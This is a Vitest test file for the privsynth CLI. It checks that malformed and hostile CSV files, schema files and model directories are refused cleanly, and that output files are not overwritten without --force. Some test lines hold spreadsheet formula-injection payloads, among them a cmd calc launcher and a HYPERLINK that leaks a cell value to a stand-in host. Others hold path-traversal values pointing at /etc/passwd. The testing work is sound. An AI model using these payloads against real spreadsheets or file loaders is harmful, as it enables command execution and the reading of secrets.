/**
 * Hostile and broken input through the built CLI, as a user (or an attacker handing a user a file)
 * would run it. Every case must give a clear message, exit code 2, no stack trace, no half-written
 * output (no target, no temp file), and never replace an existing file without --force.
 * Formula-injection payloads must come back neutralised in CSV output.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createHash } from 'node:crypto';
import { CPS, cli } from '../helpers.js';
import { parseCsv } from '../../src/io/parseCsv.js';



let dir: string;
let base: string; // a real model directory to damage
/** What each hostile case produced, printed at the end (exit code and first line of the message). */
const outcomes: string[] = [];

beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'privsynth-hostile-'));
  base = path.join(dir, 'base-model');
  const r = cli('fit', CPS, '-o', base, '--epochs', '2', '--seed', '1', '-q');
  if (r.code !== 0) throw new Error(`fit failed: ${r.err}`);
}, 120_000);

afterAll(() => {
  if (outcomes.length) console.log('hostile input outcomes:\n' + outcomes.join('\n'));
});

/** Temp files (ours are ".<name>.<pid>.<hex>.tmp[.csv]") anywhere under `d`. */
function temps(d: string): string[] {
  return readdirSync(d, { recursive: true }).map(String).filter((f) => /\.tmp(\.csv)?$/.test(f));
}

function expectRefused(label: string, args: string[], pattern: RegExp, opts: { mustNotExist?: string } = {}): string {
  const r = cli(...args);
  const first = r.err.split('\n').find((l) => l.trim()) ?? '';
  outcomes.push(`  ${label.padEnd(44)} exit ${r.code}  ${first.slice(0, 160)}`);
  expect(r.code, r.err).toBe(2);
  expect(r.err).toMatch(pattern);
  expect(first).toMatch(/^error: (E_[A-Z_]+: |\d+ problem\(s\))/);
  expect(r.err, 'no internal error or stack trace').not.toMatch(/internal error|\n\s+at .*:\d+:\d+/);
  expect(r.err.length, 'the message stays short').toBeLessThan(20_000);
  if (opts.mustNotExist) expect(existsSync(opts.mustNotExist), `${opts.mustNotExist} was written`).toBe(false);
  expect(temps(dir), 'temp files left behind').toEqual([]);
  return r.err;
}

const write = (name: string, data: string | Uint8Array): string => {
  const f = path.join(dir, name);
  writeFileSync(f, data);
  return f;
};

/** fit on a bad table: refused, no model directory. */
function fitRefused(label: string, file: string, pattern: RegExp): void {
  const out = path.join(dir, `m-${path.basename(file)}`);
  expectRefused(label, ['fit', file, '-o', out, '-q'], pattern, { mustNotExist: out });
}

describe('hostile CSV files', () => {
  it('ragged rows', () => fitRefused('csv: ragged rows', write('ragged.csv', 'a,b\n1,x\n2,y\n3,z,extra\n4,w\n'), /row 3 \(line 4\) has 3 fields, but the header has 2/));
  it('a row with too few fields', () => fitRefused('csv: short row', write('short.csv', 'a,b,c\n1,2,3\n4,5\n'), /row 2 \(line 3\) has 2 fields, but the header has 3/));
  it('unbalanced quotes', () => fitRefused('csv: unbalanced quote', write('quote.csv', 'a,b\n1,"open\n2,y\n3,z\n'), /quoted field that starts on line 2 is never closed/));
  it('text after a closing quote', () => fitRefused('csv: text after closing quote', write('afterq.csv', 'a,b\n1,"x"y\n'), /unexpected text after a closing quote on line 2/));
  it('NUL bytes', () => fitRefused('csv: NUL byte', write('nul.csv', Buffer.from('a,b\n1,x\n2,y\u0000z\n')), /NUL byte on line 3/));
  it('invalid UTF-8', () => fitRefused('csv: invalid UTF-8', write('latin1.csv', Buffer.concat([Buffer.from('name,city\nx,'), Buffer.from([0x4d, 0xfc, 0x6e, 0x63, 0x68, 0x65, 0x6e]), Buffer.from('\n')])), /not valid UTF-8 \(first bad bytes on line 2\)[\s\S]*iconv/));
  it('an overlong UTF-8 encoding and a lone surrogate', () => {
    fitRefused('csv: overlong UTF-8', write('overlong.csv', Buffer.from([...Buffer.from('a,b\n1,'), 0xc0, 0xaf, 0x0a])), /not valid UTF-8/);
    fitRefused('csv: UTF-8 encoded surrogate', write('surrogate.csv', Buffer.from([...Buffer.from('a,b\n1,'), 0xed, 0xa0, 0x80, 0x0a])), /not valid UTF-8/);
  });
  it('a 10 MB single field (unquoted and quoted)', () => {
    const big = 'x'.repeat(10 * 1024 * 1024);
    fitRefused('csv: 10 MB unquoted field', write('bigfield.csv', `a,b\n1,${big}\n2,y\n`), /a field is longer than 1048576 characters[\s\S]*row 1/);
    fitRefused('csv: 10 MB quoted field', write('bigquoted.csv', `a,b\n1,y\n2,"${big}"\n`), /a field is longer than 1048576 characters[\s\S]*row 2/);
  });
  it('100k columns', () => {
    const header = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',');
    const row = Array.from({ length: 100_000 }, (_, i) => String(i % 7)).join(',');
    fitRefused('csv: 100k columns', write('wide.csv', `${header}\n${row}\n${row}\n`), /the header has 100000 columns, more than the 20000 privsynth accepts/);
  });
  it('duplicate header names (also after trimming)', () => {
    fitRefused('csv: duplicate header', write('dup.csv', 'id,age,id\n1,2,3\n'), /names column "id" twice \(columns 1 and 3\)/);
    fitRefused('csv: duplicate header after trim', write('dup2.csv', 'age, age\n1,2\n'), /names column "age" twice/);
  });
  it('empty header names', () => {
    fitRefused('csv: empty header name', write('emptyh.csv', 'a,,c\n1,2,3\n'), /header column 2 has an empty name/);
    fitRefused('csv: blank header name', write('blankh.csv', 'a,"  "\n1,2\n'), /header column 2 has an empty name/);
  });
  it('an empty file and a header-only file', () => {
    fitRefused('csv: empty file', write('empty.csv', ''), /empty: no header line/);
    fitRefused('csv: header only', write('headeronly.csv', 'a,b\n'), /header but no data rows/);
  });
  it('a binary file with a .csv name', () => fitRefused('csv: random binary', write('binary.csv', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919 + 13) % 256))), /NUL byte|not valid UTF-8/));
  it('a CSV too large to hold as one string (sparse 600 MiB file) is refused before reading', () => {
    const f = path.join(dir, 'huge.csv');
    writeFileSync(f, '');
    truncateSync(f, 600 * 1024 * 1024);
    try {
      fitRefused('csv: 600 MiB file', f, /is 600 MiB, more than the \d+ MiB the CSV reader can hold[\s\S]*Parquet/);
    } finally {
      truncateSync(f, 0);
    }
  });
  it('a directory and a missing file', () => {
    const d = path.join(dir, 'adir.csv');
    mkdirSync(d, { recursive: true });
    fitRefused('input: a directory', d, /is a directory, not a table file/);
    fitRefused('input: missing file', path.join(dir, 'nope.csv'), /cannot find the file/);
  });
});

describe('formula injection is neutralised in CSV output', () => {
  const PAYLOADS = ["=cmd|' /C calc'!A0", '+1', '-2+3', '@SUM(1)', '=HYPERLINK("http://x.example/?q="&A1)'];

  it('fit on a table whose categorical column holds the payloads, sample: every such cell starts with a quote', () => {
    const rows = Array.from({ length: 300 }, (_, i) => {
      const p = PAYLOADS[i % PAYLOADS.length]!;
      return `"${p.replace(/"/g, '""')}",${(i * 37) % 101},${i % 2 ? 'yes' : 'no'}`;
    });
    const data = write('formula.csv', 'cell,num,flag\n' + rows.join('\n') + '\n');
    const model = path.join(dir, 'formula-model');
    expect(cli('fit', data, '-o', model, '--epochs', '30', '--seed', '5', '-q').code).toBe(0);
    const out = path.join(dir, 'formula-out.csv');
    const r = cli('sample', model, '-n', '400', '-o', out, '--seed', '6', '-q');
    expect(r.code, r.err).toBe(0);
    const text = readFileSync(out, 'utf8');
    const parsed = parseCsv(text, { delimiter: ',' });
    const cells = parsed.columns[parsed.header.indexOf('cell')]!;
    const seen = new Set(cells);
    expect(seen.size, 'several payloads were sampled').toBeGreaterThan(2);
    for (const c of cells) {
      expect(c.startsWith("'"), c).toBe(true);
      expect(PAYLOADS).toContain(c.slice(1));
    }
    // No line of the raw file starts a field with a formula character.
    for (const line of text.split('\n').slice(1)) expect(line).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    outcomes.push(`  ${'formula cells in CSV output'.padEnd(44)} exit 0  sampled ${[...seen].join(' | ')}`);
  });

  it('JSONL output keeps the values as data (JSON is not evaluated by spreadsheets)', () => {
    const out = path.join(dir, 'formula-out.jsonl');
    expect(cli('sample', path.join(dir, 'formula-model'), '-n', '50', '-o', out, '--seed', '6', '-q').code).toBe(0);
    for (const line of readFileSync(out, 'utf8').trim().split('\n')) expect(PAYLOADS).toContain(JSON.parse(line).cell);
  });

  // KNOWN BUG (src/io/TableWriter.ts, not in this change's scope): the CSV header row is written
  // with csvField(name, false), so a column *name* that is a formula reaches the output as is.
  // This test documents it and will start failing (remove `.fails`) once header names are neutralised.
  it('a formula in a column name is neutralised in the output header', () => {
    const rows = Array.from({ length: 60 }, (_, i) => `${i % 9},${i % 2 ? 'a' : 'b'}`);
    const data = write('formula-header.csv', '"=HYPERLINK(""http://x.example"")",b\n' + rows.join('\n') + '\n');
    const model = path.join(dir, 'formula-header-model');
    expect(cli('fit', data, '-o', model, '--epochs', '2', '-q').code).toBe(0);
    const out = path.join(dir, 'formula-header.csv.out.csv');
    expect(cli('sample', model, '-n', '3', '-o', out, '-q').code).toBe(0);
    expect(readFileSync(out, 'utf8').split('\n')[0]).not.toMatch(/^"?=/);
  });
});

describe('hostile schema files', () => {
  const schemaCase = (label: string, name: string, content: string, pattern: RegExp): void => {
    const out = path.join(dir, `m-schema-${name}`);
    expectRefused(label, ['fit', CPS, '--schema', write(name, content), '-o', out, '-q'], pattern, { mustNotExist: out });
  };
  let good: { columns: Record<string, unknown>[] } & Record<string, unknown>;
  beforeAll(() => {
    const f = path.join(dir, 'good-schema.json');
    expect(cli('inspect', CPS, '-o', f).code).toBe(0);
    good = JSON.parse(readFileSync(f, 'utf8'));
  });

  it('truncated', () => {
    const text = JSON.stringify(good, null, 2);
    schemaCase('schema: truncated', 'trunc.json', text.slice(0, Math.floor(text.length / 2)), /the schema file is not valid JSON/);
  });
  it('wrong version', () => schemaCase('schema: wrong version', 'v99.json', JSON.stringify({ ...good, version: 99 }), /schema version 99 is not supported \(this privsynth reads version 1\)/));
  it('wrong kind', () => schemaCase('schema: wrong kind', 'kind.json', JSON.stringify({ ...good, kind: 'privsynth.model' }), /this is not a privsynth schema/));
  it('not JSON', () => schemaCase('schema: not JSON', 'notjson.json', 'columns: [age, income]\n', /the schema file is not valid JSON/));
  it('JSON but not an object', () => schemaCase('schema: a JSON array', 'array.json', '[1,2,3]', /the schema must be a JSON object/));
  it('absurd: 1e6 columns', () => {
    const cols = Array.from({ length: 1_000_000 }, (_, i) => ({ name: `c${i}`, type: 'numeric' }));
    schemaCase('schema: 1e6 columns', 'absurd.json', JSON.stringify({ kind: 'privsynth.schema', version: 1, columns: cols }), /the schema describes 1000000 columns, more than the 20000 privsynth accepts/);
  });
  it('hostile field values (negative decimals, an object as a date, objects as missing values)', () => {
    const cols = good.columns.map((c) => (c.name === 'wage' ? { ...c, decimals: -1 } : c));
    cols.push({ name: 'when', type: 'datetime', min: { toString: 1 } });
    schemaCase('schema: hostile field values', 'fields.json', JSON.stringify({ ...good, missingValues: [{ toString: 1 }], columns: cols }), /"missingValues" must be a list[\s\S]*"decimals" must be a whole number[\s\S]*"min" is not a date/);
  });
  it('many bad columns: the message lists 50 and counts the rest', () => {
    const cols = Array.from({ length: 500 }, (_, i) => ({ name: `c${i}`, type: 'float' }));
    const err = expectRefused('schema: 500 bad columns', ['fit', CPS, '--schema', write('many.json', JSON.stringify({ columns: cols })), '-o', path.join(dir, 'm-many'), '-q'], /and 450 more problem\(s\) not listed/);
    expect(err.split('\n').length).toBeLessThan(200);
  });
});

describe('hostile model directories', () => {
  type Manifest = Record<string, any>;
  let n = 0;
  /** A copy of the base model with its manifest (or weights) changed. */
  function damaged(edit: { manifest?: (m: Manifest) => void; manifestText?: (t: string) => string; weights?: (b: Buffer) => Buffer }): string {
    const d = path.join(dir, `damaged-${++n}`);
    cpSync(base, d, { recursive: true });
    const mf = path.join(d, 'manifest.json');
    if (edit.manifestText) writeFileSync(mf, edit.manifestText(readFileSync(mf, 'utf8')));
    if (edit.manifest) {
      const m = JSON.parse(readFileSync(mf, 'utf8'));
      edit.manifest(m);
      writeFileSync(mf, JSON.stringify(m));
    }
    if (edit.weights) writeFileSync(path.join(d, 'weights.bin'), edit.weights(readFileSync(path.join(d, 'weights.bin'))));
    return d;
  }
  function sampleRefused(label: string, model: string, pattern: RegExp): string {
    const out = path.join(dir, `out-${path.basename(model)}.csv`);
    return expectRefused(label, ['sample', model, '-n', '5', '-o', out, '-q'], pattern, { mustNotExist: out });
  }

  it('the undamaged copy samples (control)', () => {
    const d = damaged({});
    const out = path.join(dir, 'control.csv');
    expect(cli('sample', d, '-n', '5', '-o', out, '-q').code).toBe(0);
  });
  it('truncated manifest', () => sampleRefused('model: truncated manifest', damaged({ manifestText: (t) => t.slice(0, 200) }), /manifest\.json is damaged \(not valid JSON\)/));
  it('empty manifest', () => sampleRefused('model: empty manifest', damaged({ manifestText: () => '' }), /damaged \(not valid JSON\)/));
  it('wrong version', () => sampleRefused('model: wrong version', damaged({ manifest: (m) => (m.version = 2) }), /has format version 2; this privsynth reads version 1/));
  it('wrong kind', () => sampleRefused('model: wrong kind', damaged({ manifest: (m) => (m.kind = 'privsynth.schema') }), /does not hold a privsynth model/));
  it('tampered weights (one byte flipped)', () =>
    sampleRefused('model: tampered weights', damaged({ weights: (b) => ((b[1000] = b[1000]! ^ 0x01), b) }), /does not match its manifest \(size or sha256 differ\)/));
  it('truncated weights', () => sampleRefused('model: truncated weights', damaged({ weights: (b) => b.subarray(0, b.length - 4) }), /does not match its manifest/));
  it('weights grown and the size and sha256 in the manifest updated to match, but the tensor table not', () => {
    const grown = Buffer.concat([readFileSync(path.join(base, 'weights.bin')), Buffer.alloc(8)]);
    sampleRefused(
      'model: re-hashed weights, stale tensor table',
      damaged({
        weights: () => grown,
        manifest: (m) => {
          m.weights.bytes = grown.length;
          m.weights.sha256 = createHash('sha256').update(grown).digest('hex');
        },
      }),
      /describes \d+ weights but the weights file holds \d+/,
    );
  });
  it('a weights "file" pointing outside the directory is refused, never read', () => {
    for (const target of ['../../etc/passwd', '/etc/passwd', 'sub/../../weights.bin', 'weights.bin/../../../etc/passwd']) {
      const err = sampleRefused(`model: weights file ${target}`, damaged({ manifest: (m) => (m.weights.file = target) }), /names the weights file .*only "weights\.bin" inside the model directory is accepted/);
      expect(err).not.toMatch(/root:/);
    }
  });
  it('absurd tensor sizes', () => {
    sampleRefused('model: tensor shape 1e9 x 1e9', damaged({ manifest: (m) => (m.weights.tensors[0].shape = [1e9, 1e9]) }), /lies outside the weights file/);
    sampleRefused('model: tensor shape 2^53', damaged({ manifest: (m) => (m.weights.tensors[0].shape = [2 ** 53, 2]) }), /has shape \[9007199254740992,2\]/);
    sampleRefused('model: negative tensor shape', damaged({ manifest: (m) => (m.weights.tensors[0].shape = [-1, 5]) }), /has shape \[-1,5\]/);
    sampleRefused('model: fractional tensor shape', damaged({ manifest: (m) => (m.weights.tensors[0].shape = [0.5, 4]) }), /has shape \[0\.5,4\]/);
    sampleRefused('model: tensor offset out of range', damaged({ manifest: (m) => (m.weights.tensors.at(-1).offset = 1e12) }), /lies outside the weights file/);
    sampleRefused('model: null tensor entry', damaged({ manifest: (m) => (m.weights.tensors[1] = null) }), /weights tensor 1 .* is invalid/);
  });
  it('absurd layer sizes in the config (would allocate gigabytes)', () => {
    sampleRefused('model: config 1e8-wide layers', damaged({ manifest: (m) => (m.config.compressDims = [1e8, 1e8]) }), /invalid "config": layer size 100000000/);
    sampleRefused('model: config 5000x5000 layers', damaged({ manifest: (m) => (m.config.decompressDims = [5000, 5000]) }), /need more weights than the file holds/);
  });
  it('an invalid schema inside the manifest is a model error', () => sampleRefused('model: invalid embedded schema', damaged({ manifest: (m) => (m.schema = { columns: 'x' }) }), /E_MODEL: the schema stored in .* is invalid/));
  it('a weights file replaced by something huge is not read (size is checked first)', () => {
    const d = damaged({});
    const wf = path.join(d, 'weights.bin');
    truncateSync(wf, 3 * 1024 ** 3); // sparse 3 GiB: larger than Node can read into one buffer
    try {
      sampleRefused('model: 3 GiB weights file', d, /does not match its manifest/);
    } finally {
      truncateSync(wf, 0);
    }
  });
  // KNOWN BUG (the engines' importWeights, not in this change's scope): a manifest whose tensor
  // shapes still tile the weights file but do not fit the architecture (here: one matrix
  // transposed) reaches the engine, which throws a plain Error: "internal error", exit 1.
  // Remove `.fails` once importWeights throws ModelError.
  it('a transposed tensor shape (sizes still tile the file) is refused with exit 2', () => {
    const d = damaged({ manifest: (m) => (m.weights.tensors[0].shape = [...m.weights.tensors[0].shape].reverse()) });
    sampleRefused('model: transposed tensor shape', d, /shape/);
  });
  it('info refuses the same damaged directories', () => {
    const d = damaged({ manifest: (m) => (m.weights.file = '../../etc/passwd') });
    expectRefused('info: traversal in weights file', ['info', d], /only "weights\.bin"/);
  });
});

describe('outputs never overwrite an existing file without --force', () => {
  it('sample, fit and inspect refuse, leave the file as it was, and replace it only with --force', () => {
    const keep = 'precious data\n';
    const csv = write('existing.csv', keep);
    expectRefused('sample -o existing file', ['sample', base, '-n', '5', '-o', csv, '-q'], /E_OUTPUT_EXISTS: the output .* already exists[\s\S]*--force/);
    expect(readFileSync(csv, 'utf8')).toBe(keep);

    const jsonl = write('existing.jsonl', keep);
    expectRefused('sample -o existing .jsonl', ['sample', base, '-n', '5', '-o', jsonl, '-q'], /already exists/);
    expect(readFileSync(jsonl, 'utf8')).toBe(keep);

    const schema = write('existing-schema.json', keep);
    expectRefused('inspect -o existing file', ['inspect', CPS, '-o', schema], /already exists[\s\S]*--force/);
    expect(readFileSync(schema, 'utf8')).toBe(keep);

    const modelDir = path.join(dir, 'existing-model');
    mkdirSync(modelDir);
    writeFileSync(path.join(modelDir, 'notes.txt'), keep);
    expectRefused('fit -o existing directory', ['fit', CPS, '-o', modelDir, '--epochs', '1', '-q'], /already exists[\s\S]*--force/);
    expect(readdirSync(modelDir)).toEqual(['notes.txt']);

    expect(cli('sample', base, '-n', '5', '-o', csv, '--force', '-q').code).toBe(0);
    expect(readFileSync(csv, 'utf8').split('\n')[0]).toContain('education');
  });

  it('a failed sample with --force keeps the old file (the write is atomic)', () => {
    const keep = 'old output\n';
    const csv = write('existing2.csv', keep);
    const bad = path.join(dir, 'missing-model');
    const r = cli('sample', bad, '-n', '5', '-o', csv, '--force', '-q');
    expect(r.code).toBe(2);
    expect(readFileSync(csv, 'utf8')).toBe(keep);
    expect(statSync(csv).size).toBe(keep.length);
  });
});
